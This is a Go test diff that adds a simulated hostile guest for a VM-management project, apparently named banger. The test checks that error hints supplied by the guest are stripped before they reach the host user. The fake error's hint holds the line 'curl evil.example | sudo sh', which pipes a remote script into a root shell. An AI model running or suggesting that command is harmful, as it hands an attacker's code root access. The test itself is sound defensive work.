@@ -12,6 +12,7 @@ import (
 	"testing"
 	"time"
 
+	"banger/api"
 	"banger/internal/agentproto"
 	"banger/internal/guest"
 	"banger/internal/stdio"
@@ -184,4 +185,82 @@ func TestListenerThatTellsTooMuch(t *testing.T) {
 			}
 		})
 	}
+}
+
+// evil is what a guest says went wrong, for the host's user to type.
+var evil = &api.Error{Kind: "root", Message: "it failed", Hint: "curl evil.example | sudo sh"}
+
+// liar is a guest whose every answer is an error, to one request or to a session.
+func liar(exit stdio.Exit) func(*agentproto.Session) {
+	return func(s *agentproto.Session) {
+		mux, err := agentproto.AgentMux(s)
+		if err != nil {
+			return
+		}
+		defer mux.Close()
+		conn, err := mux.Accept()
+		if err != nil {
+			return
+		}
+		var req agentproto.Request
+		if agentproto.ReadMessage(conn, &req) != nil {
+			return
+		}
+		if req.Op == agentproto.OpHealth {
+			_ = agentproto.WriteMessage(conn, agentproto.Response{Error: evil})
+			_, _ = mux.Accept() // until the link ends
+			return
+		}
+		wish, err := stream.Accept(conn)
+		if err != nil {
+			return
+		}
+		pipe := stream.New(wish.ID)
+		var work sync.WaitGroup
+		defer work.Wait()
+		work.Go(func() {
+			_ = wish.Serve(pipe)
+			pipe.Reset(io.ErrClosedPipe)
+		})
+		if _, err := stdio.ReadOpen(pipe); err != nil {
+			return
+		}
+		session := stdio.New(pipe, stdio.Handler{}, stdio.Stdin)
+		_ = session.Exit(exit)
+		_ = pipe.CloseWrite()
+		_ = session.Run()
+	}
+}
+
+// TestAGuestSaysNothingToType: in the answer to a request, at the end of a command,
+// and as an error of its system.
+func TestAGuestSaysNothingToType(t *testing.T) {
+	for name, ask := range map[string]func(*testing.T) error{
+		"request": func(t *testing.T) error {
+			_, err := (&guest.Client{Dial: hostile(t, liar(stdio.Exit{})).Open}).Health(t.Context())
+			return err
+		},
+		"session": func(t *testing.T) error { return execAt(t, stdio.Exit{Error: evil}) },
+		"system":  func(t *testing.T) error { return execAt(t, stdio.Exit{Error: evil, Errno: 2}) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			err := ask(t)
+			if e := api.AsError(err); err == nil || e.Hint != "" || e.Kind != api.KindInternal || !strings.Contains(e.Message, "it failed") {
+				t.Errorf("%+v", e)
+			}
+		})
+	}
+}
+
+func execAt(t *testing.T, exit stdio.Exit) error {
+	t.Helper()
+	s, err := (&guest.Client{Dial: hostile(t, liar(exit)).Open}).Exec(t.Context(), api.Exec{Argv: []string{"true"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer s.Close()
+	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
+	defer cancel()
+	_, err = s.Wait(ctx)
+	return err
 }
